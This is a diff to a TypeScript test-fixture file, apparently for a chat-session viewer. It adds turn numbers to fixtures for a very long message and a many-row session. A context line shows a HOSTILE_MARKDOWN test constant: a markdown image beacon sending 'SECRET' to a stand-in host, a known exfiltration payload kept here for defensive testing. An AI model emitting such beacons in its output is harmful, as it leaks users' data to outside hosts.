@@ -321,16 +321,21 @@ const HOSTILE_MARKDOWN = `![beacon](https://canary.example/?d=SECRET) <img src="
 function endless(): Snapshot {
   const line = 'All work and no play makes a line of a very long message that nobody reads to its end.\n';
   const text = line.repeat(Math.ceil((10 * 1024 * 1024) / line.length));
-  const items = [human(`The log:\n${text}`), ai(`# The log\n\n${text.replaceAll('\n', '\n\n')}`), human('And now?')];
+  const items = [
+    human(`The log:\n${text}`),
+    ai(`# The log\n\n${text.replaceAll('\n', '\n\n')}`),
+    human('And now?', undefined, [], 2),
+  ];
   return snapshot(summary('s-endless', { title: 'A very long message' }), { items });
 }
 
 function long(count: number): Snapshot {
-  const items = Array.from({ length: count }, (_, at) => {
+  const row = (at: number) => {
     if (at % 5 === 0) return human(`Question ${at}: what about part ${at}?`);
     if (at % 5 === 4) return ai(`Answer ${at}: part **${at}** is fine, see \`src/part${at}.rs\`.`);
     return tool('read_file', { file_path: `/src/part${at}.rs` }, { figures: [{ figure: 'lines', value: at }] });
-  });
+  };
+  const items = Array.from({ length: count }, (_, at) => ({ ...row(at), turn: Math.floor(at / 5) + 1 }));
   return snapshot(summary('s-long', { title: `A session of ${count} rows` }), { items });
 }
 
